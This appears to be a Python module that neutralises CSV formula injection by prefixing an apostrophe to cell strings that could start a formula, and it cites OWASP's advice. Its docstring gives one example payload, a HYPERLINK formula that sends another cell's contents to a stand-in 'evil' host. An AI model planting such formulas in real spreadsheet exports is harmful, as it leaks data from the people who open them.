"""Text bound for a spreadsheet or CSV cell: always data, never a formula.

Excel, WPS and LibreOffice read a CSV field that starts with = + - @ (or a tab
or carriage return before one of them) as a formula, so a mailed subject like
`=HYPERLINK("http://evil/?"&A2,"点击查看")` would run when a clerk opens the
export. A leading apostrophe makes the spreadsheet show the text as it is
(OWASP's advice for CSV injection). XLSX needs no prefix: there a cell is
written with the string type explicitly (workers/reports/xlsx.py).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: object) -> object:
    """Returns value for a CSV cell: a string that could start a formula gets a leading '."""
    # " =1+1" too: some importers trim leading spaces before they look for a formula
    if isinstance(value, str) and (
        value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS)
    ):
        return "'" + value
    return value


def csv_row(values):
    """Returns the row's values made safe by csv_text (a list, or a dict of the same keys)."""
    if isinstance(values, dict):
        return {key: csv_text(value) for key, value in values.items()}
    return [csv_text(value) for value in values]
